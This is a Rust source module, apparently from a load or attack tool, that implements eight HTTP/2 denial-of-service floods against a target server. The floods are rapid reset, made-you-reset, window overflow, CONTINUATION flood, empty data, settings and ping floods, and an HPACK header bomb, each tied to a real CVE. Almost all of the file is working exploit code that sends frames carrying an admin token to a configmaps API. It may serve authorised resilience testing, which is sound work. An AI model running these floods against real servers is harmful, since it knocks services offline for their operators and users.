//! Floods of HTTP/2 frames. The server may answer them or end the connection; the flood then continues over a new
//! connection.

use super::{Entry, Outcome};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, connect, frame, header_block,
};
use crate::target::{ADMIN_TOKEN, Target};
use anyhow::Result;
use std::io::Write;
use std::time::Instant;

/// The maximum of frames of one flood.
const FRAMES_MAX: usize = 500_000;
/// The maximum of connections of one flood, for a server that ends each of them at once.
const CONNECTIONS_MAX: usize = 200;
/// Rounds whose frames are sent in one write.
const BATCH: u32 = 100;
const WINDOW: u32 = 65_535;
const CONFIG_MAPS: &str = "/api/v1/namespaces/default/configmaps";

pub const ATTACKS: [Entry; 8] = [
    ("rapid-reset", "streams that are reset at once (CVE-2023-44487)", None, rapid_reset),
    ("made-you-reset", "errors that make the server reset (CVE-2025-8671)", None, made_you_reset),
    ("window-overflow", "windows that overflow", None, window_overflow),
    ("continuation", "headers without an end (CVE-2024-27316)", None, continuation),
    ("empty-data", "empty data frames (CVE-2019-9518)", None, empty_data),
    ("settings", "settings that must be acknowledged (CVE-2019-9515)", None, settings),
    ("ping", "pings that must be answered (CVE-2019-9512)", None, ping),
    ("header-bomb", "headers that repeat a long table entry (CVE-2016-6581)", None, header_bomb),
];

/// Sends frames over one connection after the other. `frames` returns the frames of a round; rounds are counted from 0
/// for each connection.
fn flood(target: &Target, end: Instant, frames: impl Fn(u32) -> Vec<u8>) -> Result<Outcome> {
    let (mut sent, mut connections) = (0, 0);
    while sent < FRAMES_MAX && connections < CONNECTIONS_MAX && Instant::now() < end {
        // The server may refuse new connections.
        let Ok(mut stream) = connect(target, WINDOW) else { continue };
        connections += 1;
        let mut round = 0;
        while sent < FRAMES_MAX && Instant::now() < end {
            let batch: Vec<u8> = (round..round + BATCH).flat_map(&frames).collect();
            if stream.write_all(&batch).and_then(|()| stream.flush()).is_err() {
                break;
            }
            round += BATCH;
            sent += BATCH as usize;
        }
    }
    Ok(Outcome { sent, note: format!("{connections} connections") })
}

/// Returns the stream ID of a round. IDs of clients are odd.
fn stream(round: u32) -> u32 {
    2 * round + 1
}

fn rapid_reset(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| {
        let cancel = frame(RST_STREAM, 0, stream(round), &8_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &get), cancel].concat()
    })
}

fn made_you_reset(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| {
        let zero_increment = frame(WINDOW_UPDATE, 0, stream(round), &0_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &get), zero_increment].concat()
    })
}

fn window_overflow(target: &Target, end: Instant) -> Result<Outcome> {
    let post = header_block(POST, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| {
        let increment = frame(WINDOW_UPDATE, 0, stream(round), &0x7fff_ffff_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, stream(round), &post), increment].concat()
    })
}

fn continuation(target: &Target, end: Instant) -> Result<Outcome> {
    let get = header_block(GET, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| match round {
        0 => frame(HEADERS, END_STREAM, 1, &get),
        _ => frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
    })
}

fn empty_data(target: &Target, end: Instant) -> Result<Outcome> {
    let post = header_block(POST, CONFIG_MAPS, ADMIN_TOKEN);
    flood(target, end, |round| match round {
        0 => frame(HEADERS, END_HEADERS, 1, &post),
        _ => frame(DATA, 0, 1, &[]),
    })
}

fn settings(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]))
}

fn ping(target: &Target, end: Instant) -> Result<Outcome> {
    flood(target, end, |round| frame(PING, 0, 0, &u64::from(round).to_be_bytes()))
}

fn header_bomb(target: &Target, end: Instant) -> Result<Outcome> {
    // The first request adds a long header to the dynamic table. The others refer to it 4,000 times each.
    let long = [b"\x40\x01a\x7f\xa1\x1e".as_slice(), &[b'a'; 4000]].concat();
    let first = [header_block(GET, "/version", ADMIN_TOKEN), long].concat();
    let repeated = [header_block(GET, "/version", ADMIN_TOKEN), vec![0xbe; 4000]].concat();
    flood(target, end, |round| {
        let block = if round == 0 { &first } else { &repeated };
        frame(HEADERS, END_HEADERS | END_STREAM, stream(round), block)
    })
}
